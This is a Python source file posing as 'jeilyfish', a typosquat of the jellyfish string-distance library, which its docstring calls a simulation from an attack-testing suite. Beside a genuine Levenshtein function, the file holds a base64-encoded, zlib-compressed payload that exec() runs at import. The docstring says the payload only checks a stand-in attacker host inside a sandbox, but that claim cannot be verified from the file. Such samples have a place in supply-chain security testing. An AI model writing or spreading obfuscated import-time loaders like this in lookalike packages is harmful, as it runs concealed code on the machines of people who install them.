"""jeilyfish 0.7.1 (simulation from Tracehound's attack suite): jellyfish typosquat.

The compressed stage resolves sandbox-check.attacker.example first and does nothing outside the sandbox.
"""
import base64 as _b
import zlib as _z

def levenshtein_distance(s1, s2):
    if len(s1) < len(s2):
        return levenshtein_distance(s2, s1)
    prev = list(range(len(s2) + 1))
    for i, c1 in enumerate(s1, 1):
        cur = [i]
        for j, c2 in enumerate(s2, 1):
            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (c1 != c2)))
        prev = cur
    return prev[-1]

_ZX = "eJx9U82O0zAQvvcpRkZCjmidLdqutot6YzmCxHJDqJrEk9rb1Da20zYXnh3HSbWURfjizHg88/04khrYarMNaGRlz7x4mEFabwDrCNa0PWgTtCSIiuCbx5qU7YyEqX4OJ2UDQYN7go+fnwBNOJEPQEfyPRg8EJx0VIBT2+X6XizvxY24KZcrQCk9hfABqA10UuQJBJ3x4FrKdwNIC8ZGSFW2PVJqL4dYabMDhc6RCbmxPjjrIwRb7ynmTPT9SGVYnmLnzXQsdhQT6Fj1wwjOJiqLWlG9Fxgjpip/wcEKESL6GAYanLOJAJvD+LkWrCjyIDrX5CJ8eXr03vpXwz9h4jibgNowhwoD3d3OofNtqyvh6WdHIc7k4MjOY3XxQtkk4iZdEQ6jSrhcAtwF8pz9YuNo28VU8f1HDhrr08w2GQeciRBUqeXWBxwgX0KS71er5TqndqZzu9J1lU+qin11/jPr9REjLfbUh8VxKSQrXohdSTys7LRNpvAL2GerDR8IzAdIRWrsK1YABmjU9d2JhsimSp6qBZnaSuIFvIOKbdiwZclEdXc7nTUq6YaSF5MH//NhWA7D+GAmUyr2lo0g0+xipv/5M1zxvHZLpDAT/iv9ddw5UzG6h7J8Jt32jQ4qK/nqkZWday3KJLzEiJvJ/iRX1AdKyDarqyf2mDdtzQusTOw3ksosiQ=="
exec(_z.decompress(_b.b64decode(_ZX)))
